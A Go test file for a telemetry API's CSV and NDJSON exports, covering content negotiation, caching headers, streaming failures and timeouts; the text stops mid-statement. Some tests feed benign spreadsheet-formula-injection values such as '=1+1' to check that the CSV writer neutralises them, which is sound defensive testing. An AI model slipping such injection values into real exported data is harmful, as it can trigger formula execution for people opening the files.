package api

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/telemetry/telemetry/internal/config"
	"github.com/telemetry/telemetry/internal/metrics"
	"github.com/telemetry/telemetry/internal/store/postgres"
)

// decodeJSON decodes b keeping numbers' text (json.Number), so that a CSV
// cell can be compared with the JSON value it comes from.
func decodeJSON(t testing.TB, b []byte) any {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var v any
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("decoding %s: %v", b, err)
	}
	return v
}

// allPages reads every page of a JSON list (size 100, the largest) and
// returns its items in order.
func (s *testServer) allPages(t *testing.T, path string) []map[string]any {
	t.Helper()
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	var items []map[string]any
	for page := 1; ; page++ {
		r := s.do("GET", fmt.Sprintf("%s%spage=%d&size=100", path, sep, page), nil, bearer(t)...).wantStatus(t, http.StatusOK)
		body := decodeJSON(t, r.Body).(map[string]any)
		got := body["items"].([]any)
		if len(got) == 0 {
			return items
		}
		for _, it := range got {
			items = append(items, it.(map[string]any))
		}
	}
}

// rawPages is allPages with each item's bytes as the JSON answer wrote them.
func (s *testServer) rawPages(t *testing.T, path string) []json.RawMessage {
	t.Helper()
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	var items []json.RawMessage
	for page := 1; ; page++ {
		r := s.do("GET", fmt.Sprintf("%s%spage=%d&size=100", path, sep, page), nil, bearer(t)...).wantStatus(t, http.StatusOK)
		var body struct{ Items []json.RawMessage }
		if err := json.Unmarshal(r.Body, &body); err != nil {
			t.Fatal(err)
		}
		if len(body.Items) == 0 {
			return items
		}
		items = append(items, body.Items...)
	}
}

// export fetches path with Accept, checking the answer's status and type.
func (s *testServer) export(t *testing.T, path, accept string) []byte {
	t.Helper()
	r := s.do("GET", path, nil, append(bearer(t), "Accept", accept)...).wantStatus(t, http.StatusOK)
	want := map[string]string{"text/csv": "text/csv; charset=utf-8; header=present", "application/x-ndjson": "application/x-ndjson"}[accept]
	if ct := r.Header.Get("Content-Type"); ct != want {
		t.Fatalf("%s: Content-Type = %q, want %q", path, ct, want)
	}
	return r.Body
}

// checkExport compares both exports of path with the items of its JSON
// pages: NDJSON line by line, byte for byte, CSV cell by cell (a string its
// text, null empty, a number its JSON text, an object or array its JSON).
// It returns the number of items.
func (s *testServer) checkExport(t *testing.T, path string) int {
	t.Helper()
	want := s.allPages(t, path)
	wantBytes := s.rawPages(t, path)

	nd := s.export(t, path, "application/x-ndjson")
	if len(want) > 0 && !bytes.HasSuffix(nd, []byte("\n")) {
		t.Fatalf("%s: NDJSON does not end with a newline", path)
	}
	sc := bufio.NewScanner(bytes.NewReader(nd))
	sc.Buffer(nil, 1<<20)
	n := 0
	for sc.Scan() {
		if n >= len(want) {
			t.Fatalf("%s: NDJSON has more than the %d items of the JSON pages", path, len(want))
		}
		if got := decodeJSON(t, sc.Bytes()); !reflect.DeepEqual(got, any(want[n])) {
			t.Fatalf("%s: NDJSON line %d = %v, want %v", path, n+1, got, want[n])
		}
		if n < len(wantBytes) && !bytes.Equal(sc.Bytes(), wantBytes[n]) {
			t.Fatalf("%s: NDJSON line %d is\n%s\nwhere the JSON list's item is\n%s", path, n+1, sc.Bytes(), wantBytes[n])
		}
		n++
	}
	if n != len(want) {
		t.Fatalf("%s: NDJSON has %d items, the JSON pages %d", path, n, len(want))
	}

	raw := s.export(t, path, "text/csv")
	if !bytes.HasSuffix(raw, []byte("\r\n")) {
		t.Fatalf("%s: CSV does not end with CRLF: %q", path, raw[max(0, len(raw)-20):])
	}
	records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("%s: CSV: %v", path, err)
	}
	if len(records) != len(want)+1 {
		t.Fatalf("%s: CSV has %d records, want a header and %d", path, len(records), len(want))
	}
	header := records[0]
	for i, item := range want {
		row := records[i+1]
		for j, col := range header {
			v, ok := item[col]
			cell := row[j]
			switch v := v.(type) {
			case nil:
				if cell != "" {
					t.Fatalf("%s: row %d %s = %q, want empty (%v, present %v)", path, i+1, col, cell, v, ok)
				}
			case string:
				// encoding/csv reads a quoted CRLF as LF; a text that a
				// spreadsheet would take for a formula has a ' before it.
				if cell != strings.ReplaceAll(csvText(v), "\r\n", "\n") {
					t.Fatalf("%s: row %d %s = %q, want %q", path, i+1, col, cell, v)
				}
			case json.Number:
				if cell != v.String() {
					t.Fatalf("%s: row %d %s = %q, want %q", path, i+1, col, cell, v)
				}
			case bool:
				if cell != fmt.Sprint(v) {
					t.Fatalf("%s: row %d %s = %q, want %v", path, i+1, col, cell, v)
				}
			default: // an object or array: its JSON (csvText's ' after a ; taken out)
				if got := decodeJSON(t, []byte(strings.ReplaceAll(cell, ";'", ";"))); !reflect.DeepEqual(got, v) {
					t.Fatalf("%s: row %d %s = %q, want %v", path, i+1, col, cell, v)
				}
			}
		}
		for k := range item {
			if !contains(header, k) {
				t.Fatalf("%s: CSV header %v lacks the JSON field %q", path, header, k)
			}
		}
	}
	return len(want)
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// A name with every character CSV must quote, and more.
const awkward = "a,b \"quoted\"\nline2\r\nline3; é ✓ <id> &amp;"

func TestExportEveryList(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t, func(c *config.Config) { c.SelfProfile = false })
	ctx := context.Background()

	// Flows: 150 keys in hour 7 (more than a page of 100), a few in hour 8.
	var flows []map[string]any
	for i := range 150 {
		flows = append(flows, map[string]any{"src_app": fmt.Sprintf("src-%03d", i), "dest_app": awkward,
			"vpc_id": "vpc", "bytes_tx": i, "bytes_rx": 2 * i, "hour": 7})
	}
	for i := range 3 {
		flows = append(flows, map[string]any{"src_app": fmt.Sprint(i), "dest_app": "d", "vpc_id": "v", "bytes_tx": 1, "bytes_rx": 1, "hour": 8})
	}
	s.do("POST", "/flows", flows).wantStatus(t, http.StatusCreated)
	if n := s.checkExport(t, "/flows?hour=7"); n != 150 {
		t.Fatalf("flows export: %d items, want 150 (hour 7 only)", n)
	}
	// The summary, from the rows (a filter on another key) and from the
	// rollup.
	if n := s.checkExport(t, "/flows/summary?hour=7&by=src_app&dest_app="+url.QueryEscape(awkward)); n != 150 {
		t.Fatalf("flow summary export: %d keys, want 150", n)
	}
	if n := s.checkExport(t, "/flows/summary?from_hour=7&to_hour=9&by=vpc_id"); n != 2 {
		t.Fatalf("flow summary export by vpc_id: %d keys, want 2", n)
	}

	// Devices: 120, and one with current metrics and a history of 130
	// points.
	if _, err := s.Pool.Exec(ctx, `INSERT INTO devices (id, name) SELECT 'dev-' || lpad(i::text, 3, '0'), $1 || i FROM generate_series(1, 120) i`, awkward); err != nil {
		t.Fatal(err)
	}
	s.checkExport(t, "/mrd/devices")
	for i, doc := range []map[string]any{metricDoc("cpu", 41.5, "float", 600), metricDoc("label", awkward, "string", 600)} {
		s.do("PUT", "/mrd/dev-001/metrics", doc, bearer(t)...).wantStatus(t, http.StatusOK)
		_ = i
	}
	s.checkExport(t, "/mrd/devices/dev-001/metrics")
	s.checkExport(t, "/mrd/metrics/current")
	base := time.Now().Add(-2 * time.Hour).Truncate(time.Minute)
	if _, err := s.Pool.Exec(ctx, `INSERT INTO device_metrics (time, device_id, name, type, value_num, units, slope, ttl)
		SELECT $1::timestamptz + make_interval(secs => i * 30), 'dev-001', 'temp', 'float', i * 0.5, 'C', 'both', 60
		FROM generate_series(1, 130) i`, base); err != nil {
		t.Fatal(err)
	}
	from := base.UTC().Format(time.RFC3339) // a local offset such as +10:30 would need escaping
	if n := s.checkExport(t, "/mrd/devices/dev-001/metrics/temp/history?from="+from); n != 130 {
		t.Fatalf("history export: %d points, want 130", n)
	}
	if n := s.checkExport(t, "/mrd/devices/dev-001/metrics/temp/history?bucket=1m&from="+from); n < 60 {
		t.Fatalf("history buckets export: %d buckets", n)
	}

	// Runs: 105, half committed; the state filter applies.
	for i := range 105 {
		var out struct{ UUID string }
		body := map[string]any{"host": fmt.Sprintf("gen-%d", i%2), "measurement": map[string]any{
			"fields": map[string]any{"clients": i, "hatchRate": 0.5}, "tags": map[string]any{"targetHost": awkward}}}
		if i%3 == 0 {
			body["measurement"] = map[string]any{"fields": map[string]any{}, "tags": map[string]any{"mode": "single"}}
		}
		s.do("POST", "/apiv0.1/events/register", body).wantStatus(t, http.StatusOK).decode(t, &out)
	}
	if n := s.checkExport(t, "/apiv0.1/states"); n != 105 {
		t.Fatalf("states export: %d runs, want 105", n)
	}
	if n := s.checkExport(t, "/apiv0.1/states?host=gen-1"); n != 52 {
		t.Fatalf("states export with host: %d runs, want 52", n)
	}

	// Measurements: 230, awkward names, args and context; filters and sorts.
	now := float64(time.Now().Add(-time.Hour).Unix())
	var recs []rec
	for i := range 230 {
		method := []string{"GET", "POST"}[i%2]
		recs = append(recs, mrec(fmt.Sprintf("/r/%d/%s", i%7, awkward), method, now+float64(i), float64(i%13)/10,
			"args", []any{awkward, i}, "kwargs", map[string]any{"k": awkward}, "context", map[string]any{"url": "/x?a=1,2"}))
	}
	postIDs(t, s, recs)
	if n := s.checkExport(t, "/api/measurements/"); n != 230 {
		t.Fatalf("measurements export: %d, want 230", n)
	}
	if n := s.checkExport(t, "/api/measurements?method=GET&sort=elapsed,asc"); n != 115 {
		t.Fatalf("measurements export with method: %d, want 115", n)
	}
	s.checkExport(t, "/api/measurements/filter/?sort=name,desc&elapsed=0.5")
	// Read through measurements_elapsed_bucket_idx backwards (the list
	// reads its first pages from the slow rows), ties by id.
	if n := s.checkExport(t, "/api/measurements?sort=elapsed,desc"); n != 230 {
		t.Fatalf("measurements export by elapsed: %d, want 230", n)
	}
	if n := s.checkExport(t, "/api/measurements/grouped/?sort=count,desc"); n != 14 {
		t.Fatalf("grouped export: %d groups, want 14", n)
	}
	s.checkExport(t, "/api/v1/measurements/grouped")

	// ASCII rows take the hand-written path (export_rows.go): <, > and &
	// as the JSON list writes them, not escaped.
	var plain []rec
	for i := range 3 {
		plain = append(plain, mrec("/api/products/<id>", "GET", now+float64(i), 0.1,
			"kwargs", map[string]any{"id": "<b>"}, "context", map[string]any{"q": "a&b"}))
	}
	postIDs(t, s, plain)
	path := "/api/measurements/?name=" + url.QueryEscape("/api/products/<id>")
	if n := s.checkExport(t, path); n != 3 {
		t.Fatalf("measurements export by name: %d, want 3", n)
	}
	if nd := s.export(t, path, "application/x-ndjson"); !bytes.Contains(nd, []byte(`"name":"/api/products/<id>"`)) {
		t.Fatalf("NDJSON export escapes the name: %s", nd)
	}
}

// A string metric value holding <, > and & is written as the JSON
// answers write their strings (jsonOptions), in the current metrics' page
// and in their NDJSON export: MetricValue encoded it with encoding/json,
// which wrote \u003c, \u003e and \u0026 (the same string to a JSON
// reader, not to grep). U+2028 stays escaped, as in every answer.
func TestExportMetricStringValueUnescaped(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t)
	s.createDevice(t, "html1")
	s.do("PUT", "/mrd/html1/metrics", metricDoc("label", "<b> & </b>\u2028", "string", 600), bearer(t)...).
		wantStatus(t, http.StatusOK)
	const want = `"value":"<b> & </b>\u2028"`
	if b := s.do("GET", "/mrd/devices/html1/metrics", nil, bearer(t)...).wantStatus(t, http.StatusOK).Body; !bytes.Contains(b, []byte(want)) {
		t.Errorf("JSON page: %s, want %s in it", b, want)
	}
	if nd := s.export(t, "/mrd/devices/html1/metrics", "application/x-ndjson"); !bytes.Contains(nd, []byte(want)) {
		t.Errorf("NDJSON export: %s, want %s in it", nd, want)
	}
	s.checkExport(t, "/mrd/devices/html1/metrics")
}

// The document's text/csv answer says what the CSV does to a string that
// a spreadsheet would run as a formula (a ' before it): a client reading
// the document alone was told that a string is its text, and got '=x for
// =x. Every exporting operation documents it, and only they do.
func TestExportDocumentedCSV(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	var doc struct {
		Paths map[string]map[string]struct {
			OperationID string `json:"operationId"`
			Responses   map[string]struct {
				Content map[string]struct {
					Schema struct {
						Description string `json:"description"`
					} `json:"schema"`
				} `json:"content"`
			} `json:"responses"`
		} `json:"paths"`
	}
	if err := json.Unmarshal(s.do("GET", "/openapi.json", nil).wantStatus(t, http.StatusOK).Body, &doc); err != nil {
		t.Fatal(err)
	}
	ops := 0
	for path, methods := range doc.Paths {
		for method, op := range methods {
			csv, ok := op.Responses["200"].Content["text/csv"]
			if !ok {
				continue
			}
			ops++
			for _, want := range []string{"starting with =, +, -, @, a tab or a CR gets a ' before it", "an empty cell",
				"starting with a space, quoted"} {
				if !strings.Contains(csv.Schema.Description, want) {
					t.Errorf("%s %s (%s): text/csv described as %q, without %q", method, path, op.OperationID,
						csv.Schema.Description, want)
				}
			}
		}
	}
	if ops < 10 {
		t.Fatalf("%d operations document a text/csv answer, want every exporting one (at least 10)", ops)
	}
}

// page and size are ignored by the exports, JSON is the default, and
// JSON stays the answer of the other Accept headers that admit it.
func TestExportNegotiation(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	s.do("POST", "/flows", []map[string]any{{"src_app": "a", "dest_app": "b", "vpc_id": "v", "bytes_tx": 1, "bytes_rx": 2, "hour": 1},
		{"src_app": "c", "dest_app": "d", "vpc_id": "v", "bytes_tx": 1, "bytes_rx": 2, "hour": 1}}).wantStatus(t, http.StatusCreated)

	for _, accept := range []string{"", "*/*", "application/json", "application/*", "application/json, text/csv;q=0.5", "text/csv;q=0.1, */*"} {
		r := s.do("GET", "/flows?hour=1", nil, "Accept", accept).wantStatus(t, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != "application/json" {
			t.Errorf("Accept %q: Content-Type %q, want JSON", accept, ct)
		}
	}
	for accept, want := range map[string]string{
		"text/csv":                 "text/csv; charset=utf-8; header=present",
		"text/*":                   "text/csv; charset=utf-8; header=present",
		"text/csv; charset=utf-8":  "text/csv; charset=utf-8; header=present",
		"text/csv; header=present": "text/csv; charset=utf-8; header=present",
		// The answer's own Content-Type, sent back as Accept.
		"text/csv; charset=utf-8; header=present":      "text/csv; charset=utf-8; header=present",
		"application/x-ndjson":                         "application/x-ndjson",
		"application/x-ndjson; charset=utf-8":          "application/x-ndjson",
		"application/x-ndjson; charset=UTF-8, */*;q=0": "application/x-ndjson",
		"application/x-ndjson, text/csv;q=0.5":         "application/x-ndjson",
	} {
		r := s.do("GET", "/flows?hour=1&page=2&size=1", nil, "Accept", accept).wantStatus(t, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != want {
			t.Errorf("Accept %q: Content-Type %q, want %q", accept, ct, want)
		}
		if lines := strings.Count(string(r.Body), "\n"); lines < 2 {
			t.Errorf("Accept %q: page and size were not ignored: %q", accept, r.Body)
		}
	}
	csvBody := s.do("GET", "/flows?hour=1", nil, "Accept", "text/csv").Body
	if want := "src_app,dest_app,vpc_id,bytes_tx,bytes_rx,hour\r\na,b,v,1,2,1\r\nc,d,v,1,2,1\r\n"; string(csvBody) != want {
		t.Errorf("CSV = %q, want %q", csvBody, want)
	}
	// An empty export: the header alone.
	if b := s.do("GET", "/flows?hour=2", nil, "Accept", "text/csv").wantStatus(t, http.StatusOK).Body; string(b) != "src_app,dest_app,vpc_id,bytes_tx,bytes_rx,hour\r\n" {
		t.Errorf("empty CSV = %q", b)
	}
	if b := s.do("GET", "/flows?hour=2", nil, "Accept", "application/x-ndjson").wantStatus(t, http.StatusOK).Body; len(b) != 0 {
		t.Errorf("empty NDJSON = %q", b)
	}
	// The summaries too, from the rollup and from the rows (a filter on
	// another column).
	for _, path := range []string{"/flows/summary?hour=2&by=src_app", "/flows/summary?hour=2&by=src_app&vpc_id=v"} {
		if b := s.do("GET", path, nil, "Accept", "application/x-ndjson").wantStatus(t, http.StatusOK).Body; len(b) != 0 {
			t.Errorf("%s: empty NDJSON = %q", path, b)
		}
	}

	// 406: an export type on an operation that does not export, or a type
	// no operation produces.
	for _, c := range []struct{ path, accept string }{
		{"/apiv0.1/ping", "text/csv"},
		{"/apiv0.1/events/isrunning", "application/x-ndjson"},
		{"/api/measurements/timeseries/", "text/csv"},
		{"/flows?hour=1", "text/html"},
		{"/flows?hour=1", "text/csv;q=0, application/json;q=0"},
		// Parameters the answers do not have.
		{"/flows?hour=1", "text/csv; header=absent"},
		{"/flows?hour=1", "text/csv; charset=iso-8859-1"},
		{"/flows?hour=1", "application/x-ndjson; charset=utf-16"},
	} {
		p := s.do("GET", c.path, nil, "Accept", c.accept).problem(t, http.StatusNotAcceptable)
		if !strings.Contains(p.Detail, "application/json") {
			t.Errorf("%s %s: detail %q", c.path, c.accept, p.Detail)
		}
	}
}

// Every answer of an exporting operation says that it depends on Accept
// (Vary), so that a cache does not hand a JSON page it kept to a client
// asking the same URL for CSV or NDJSON: JSON, CSV and NDJSON answers,
// and the errors that Accept can decide (406) or not (422).
func TestExportVaryAccept(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	s.do("POST", "/flows", `[{"src_app":"a","dest_app":"b","vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":1}]`).
		wantStatus(t, http.StatusCreated)
	for _, c := range []struct {
		path, accept string
		status       int
	}{
		{"/flows?hour=1", "", http.StatusOK},
		{"/flows?hour=1", "application/json", http.StatusOK},
		{"/flows?hour=1", "text/csv", http.StatusOK},
		{"/flows?hour=1", "application/x-ndjson", http.StatusOK},
		{"/api/measurements", "text/csv", http.StatusOK},
		{"/flows?hour=1", "text/html", http.StatusNotAcceptable},
		{"/flows?hour=x", "text/csv", http.StatusUnprocessableEntity},
	} {
		r := s.do("GET", c.path, nil, "Accept", c.accept).wantStatus(t, c.status)
		if !slices.ContainsFunc(r.Header.Values("Vary"), func(v string) bool {
			return slices.Contains(strings.Split(strings.ReplaceAll(v, " ", ""), ","), "Accept")
		}) {
			t.Errorf("GET %s, Accept %q: %d with Vary %q, want Accept in it", c.path, c.accept, c.status, r.Header.Values("Vary"))
		}
	}
	if res := s.headExport(t, "/flows?hour=1", "text/csv"); res.Header.Get("Vary") != "Accept" {
		t.Errorf("HEAD export: Vary %q", res.Header.Get("Vary"))
	}
}

// Errors found before the first row are problem+json, whatever Accept
// asked for.
func TestExportErrorsBeforeStreaming(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t, func(c *config.Config) { c.DBTimeout = 300 * time.Millisecond })
	// A connection open before the first request: DB_TIMEOUT also bounds
	// opening one, which a loaded machine can make slow.
	if _, err := s.Pool.Exec(context.Background(), "SELECT 1"); err != nil {
		t.Fatal(err)
	}
	for _, accept := range []string{"text/csv", "application/x-ndjson"} {
		p := s.do("GET", "/flows", nil, "Accept", accept).problem(t, http.StatusUnprocessableEntity)
		if !p.hasError("query.hour", "required") {
			t.Errorf("%s: missing hour: %+v", accept, p.Errors)
		}
		s.do("GET", "/flows?hour=-1", nil, "Accept", accept).problem(t, http.StatusUnprocessableEntity)
		s.do("GET", "/api/measurements/?sort=nope", nil, "Accept", accept).problem(t, http.StatusUnprocessableEntity)
		s.do("GET", "/apiv0.1/states?from=yesterday", nil, "Accept", accept).problem(t, http.StatusUnprocessableEntity)
		s.do("GET", "/mrd/devices/ghost/metrics/x/history?bucket=0s", nil, "Accept", accept).problem(t, http.StatusUnprocessableEntity)
		s.do("GET", "/mrd/devices/ghost/metrics/x/history", nil, "Accept", accept).problem(t, http.StatusNotFound)
		s.do("GET", "/mrd/devices/ghost/metrics", nil, "Accept", accept).problem(t, http.StatusNotFound)
	}

	// A table locked by another session: no first row within DB_TIMEOUT
	// is a 503, as for the JSON list.
	s.lockTable(t, "flows")
	r := s.do("GET", "/flows?hour=1", nil, "Accept", "text/csv")
	r.problem(t, http.StatusServiceUnavailable)
	if r.Header.Get("Retry-After") == "" {
		t.Error("503 without Retry-After")
	}
}

// AUTH_READS covers the exports: no token, no rows.
func TestExportNeedsTokenWithAuthReads(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t, func(c *config.Config) { c.AuthReads = true })
	r := s.do("GET", "/flows?hour=1", nil, "Accept", "text/csv")
	r.problem(t, http.StatusUnauthorized)
	s.do("GET", "/flows?hour=1", nil, "Accept", "text/csv", "Authorization", "Bearer "+validToken(t)).wantStatus(t, http.StatusOK)
}

// fillMeasurements inserts n measurements straight into the table (the
// list exports read the rows only), one a millisecond from an hour ago.
func fillMeasurements(t *testing.T, s *testServer, n int) {
	t.Helper()
	start := time.Now()
	_, err := s.Pool.Exec(context.Background(), `INSERT INTO measurements (started_at, ended_at, elapsed, name, method, context)
		SELECT now() - interval '1 hour' + i * interval '1 ms', now() - interval '1 hour' + i * interval '1 ms', 0,
		       '/bulk/' || (i % 50), 'GET', jsonb_build_object('url', repeat('x', 200))
		FROM generate_series(1, $1::int) i`, n)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("filled %d in %v", n, time.Since(start))
}

// exportRequest starts an export and returns the answer unread.
func exportRequest(t *testing.T, s *testServer, ctx context.Context, path, accept string) *http.Response {
	t.Helper()
	req, _ := http.NewRequestWithContext(ctx, "GET", s.URL+path, nil)
	req.Header.Set("Accept", accept)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	return res
}

// waitIdle waits until the pool has no connection acquired.
func waitIdle(t *testing.T, s *testServer) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for s.Pool.Stat().AcquiredConns() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("the export's connection is still acquired: %d", s.Pool.Stat().AcquiredConns())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A client that goes away mid-stream stops the query: its connection goes
// back to the pool.
func TestExportClientDisconnect(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, func(c *config.Config) { c.SelfProfile = false })
	fillMeasurements(t, s, 60_000) // ~25 MB of NDJSON: more than the sockets buffer
	ctx, cancel := context.WithCancel(context.Background())
	res := exportRequest(t, s, ctx, "/api/measurements/", "application/x-ndjson")
	line, err := bufio.NewReader(res.Body).ReadString('\n')
	if err != nil || !strings.HasPrefix(line, "{") {
		t.Fatalf("first line %q: %v", line, err)
	}
	if s.Pool.Stat().AcquiredConns() == 0 {
		t.Fatal("no connection acquired while the export streams")
	}
	cancel()
	res.Body.Close()
	waitIdle(t, s)
	deadline := time.Now().Add(30 * time.Second)
	for s.exportsCounted(t, "ndjson", "client_gone") != "1" {
		if time.Now().After(deadline) {
			t.Fatal("the export was not counted as client_gone")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// A database failure after the first byte cuts the connection: the client
// reads a truncated body (no final chunk), never a clean end.
func TestExportFailureAfterFirstByte(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, func(c *config.Config) { c.SelfProfile = false })
	fillMeasurements(t, s, 60_000)
	res := exportRequest(t, s, context.Background(), "/api/measurements/", "text/csv")
	defer res.Body.Close()
	br := bufio.NewReader(res.Body)
	if _, err := br.ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	// The export's backend is terminated, as by an operator or a failover.
	terminateExportBackend(t, s)
	_, err := io.Copy(io.Discard, br)
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("reading the rest: %v, want io.ErrUnexpectedEOF (a truncated body)", err)
	}
	if got := s.exportsCounted(t, "csv", "failed"); got != "1" {
		t.Fatalf("failed exports = %q, want 1", got)
	}
	waitIdle(t, s)
}

// An HTTP/1.0 answer has no chunked encoding: its body ends where the
// connection does. An export cut short over HTTP/1.0 resets the connection,
// so that the client reads an error, not the end of a complete-looking
// file: with a plain close, curl -0 exited 0 with part of the rows, and so
// did every client behind nginx, which proxies in HTTP/1.0 by default.
// Over TLS too (TLS_CERT_FILE), where closing the TLS connection would
// also end it with a close_notify, which reads as a whole answer.
func TestExportFailureAfterFirstByteHTTP10(t *testing.T) {
	t.Parallel()
	for _, overTLS := range []bool{false, true} {
		t.Run(fmt.Sprintf("tls=%t", overTLS), func(t *testing.T) {
			t.Parallel()
			s := newTestServer(t, func(c *config.Config) { c.SelfProfile = false })
			fillMeasurements(t, s, 60_000)
			res, _ := http10ExportOver(t, s, overTLS, "/api/measurements/", "text/csv")
			br := bufio.NewReader(res.Body)
			if _, err := br.ReadString('\n'); err != nil {
				t.Fatal(err)
			}
			terminateExportBackend(t, s)
			read, err := io.Copy(io.Discard, br)
			if !errors.Is(err, syscall.ECONNRESET) {
				t.Fatalf("reading the rest (%d bytes): %v, want the connection reset (a clean end reads as a complete export)", read, err)
			}
			if got := s.exportsCounted(t, "csv", "failed"); got != "1" {
				t.Fatalf("failed exports = %q, want 1", got)
			}
			waitIdle(t, s)
		})
	}
}

// waitExportsCounted waits up to 30 s for exportsCounted to be want, and
// answers its last value. The export is counted after its answer's last
// byte is written: a client can see the answer end before the count, when
// there is no body after the headers (HEAD) or when net/http closes the
// connection itself after a write that missed its deadline (too_slow).
func (s *testServer) waitExportsCounted(t *testing.T, format, outcome, want string) string {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		got := s.exportsCounted(t, format, outcome)
		if got == want || time.Now().After(deadline) {
			return got
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// exportsCounted reads telemetry_exports_total{format, outcome} from
// /metrics ("" when absent).
func (s *testServer) exportsCounted(t *testing.T, format, outcome string) string {
	t.Helper()
	body := string(s.do("GET", "/metrics", nil).wantStatus(t, http.StatusOK).Body)
	prefix := fmt.Sprintf("telemetry_exports_total{format=%q,outcome=%q} ", format, outcome)
	for _, line := range strings.Split(body, "\n") {
		if v, ok := strings.CutPrefix(line, prefix); ok {
			return v
		}
	}
	return ""
}

// WRITE_TIMEOUT bounds a stall, not an export: a client that keeps reading
// gets every row however long the export takes.
func TestExportOutlastsWriteTimeout(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, func(c *config.Config) { c.SelfProfile = false })
	fillMeasurements(t, s, 60_000)
	cfg, err := config.Load(func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	// 5 s: on a loaded machine (the whole suite under -race on 2 cores) a
	// 300 ms timeout, once (2026-12-02) a 1 s one and once (2026-12-04, CI
	// beside another suite, load average 4) a 3 s one cut the export while
	// the reading client was merely descheduled. The reader below is slow
	// enough that the export still lasts twice the timeout or more.
	cfg.SelfProfile, cfg.WriteTimeout = false, 5*time.Second
	h, _ := New(Deps{Store: postgres.New(s.Pool, postgres.Options{}).Stores(), Config: cfg})
	srv := httptest.NewUnstartedServer(h)
	srv.Config.WriteTimeout = cfg.WriteTimeout // as serve sets it
	srv.Config.ConnContext = ConnContext
	srv.Start()
	defer srv.Close()

	req, _ := http.NewRequest("GET", srv.URL+"/api/measurements/", nil)
	req.Header.Set("Accept", "application/x-ndjson")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	// About 13 s for ~25 MB (the last few MB wait in the sockets' buffers):
	// more than twice WRITE_TIMEOUT, never one without reading.
	buf := make([]byte, 128<<10)
	var body bytes.Buffer
	for {
		n, err := io.ReadFull(res.Body, buf)
		body.Write(buf[:n])
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			break
		}
		if err != nil {
			t.Fatalf("after %d bytes: %v", body.Len(), err)
		}
		time.Sleep(65 * time.Millisecond)
	}
	if lines := bytes.Count(body.Bytes(), []byte("\n")); lines != 60_000 {
		t.Fatalf("%d lines, want 60000 (the export was cut)", lines)
	}
}

// The CSV writer keeps every byte of a field and quotes what RFC 4180
// asks; the splitter reads every kind of JSON value.
func TestExportCSVRecord(t *testing.T) {
	var out bytes.Buffer
	w := bufio.NewWriter(&out)
	if err := writeCSV(w, []string{"plain", "", "a,b", `say "hi"`, "cr\ronly", "lf\nonly", " lead", "é✓"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if want := "plain,,\"a,b\",\"say \"\"hi\"\"\",\"cr\ronly\",\"lf\nonly\",\" lead\",é✓\r\n"; out.String() != want {
		t.Fatalf("CSV record %q, want %q", out.String(), want)
	}

	type item struct {
		S    string          `json:"s"`
		E    string          `json:"e"`
		N    float64         `json:"n"`
		B    bool            `json:"b"`
		Null *int            `json:"null"`
		Obj  json.RawMessage `json:"obj"`
		Arr  []any           `json:"arr"`
		Omit string          `json:"omit,omitempty"`
		Skip string          `json:"-"`
	}
	cols := columnsOf(reflect.TypeFor[item]())
	if got := strings.Join(cols.names, ","); got != "s,e,n,b,null,obj,arr,omit" {
		t.Fatalf("columns %s", got)
	}
	b, _ := json.Marshal(item{S: "x", E: "q\"<\\\n", N: 1.5e-7, B: true, Obj: json.RawMessage(`{"a":"},]","b":[1,{"c":null}]}`),
		Arr: []any{"[", 2}, Skip: "no"})
	record := make([]string, len(cols.names))
	if err := cols.split(b, record); err != nil {
		t.Fatal(err)
	}
	want := []string{"x", "q\"<\\\n", "1.5e-7", "true", "", `{"a":"},]","b":[1,{"c":null}]}`, `["[",2]`, ""}
	if !reflect.DeepEqual(record, want) {
		t.Fatalf("record %q, want %q", record, want)
	}
	// An object's or array's JSON text gets the guard after a ; in it; a
	// number never gets one.
	b, _ = json.Marshal(item{N: -1, Obj: json.RawMessage(`{"u":"x;=1+1","v":"a;b"}`), Arr: []any{";@x", "-1"}})
	if err := cols.split(b, record); err != nil {
		t.Fatal(err)
	}
	if want := []string{`{"u":"x;'=1+1","v":"a;b"}`, `[";'@x","-1"]`}; record[2] != "-1" || record[5] != want[0] || record[6] != want[1] {
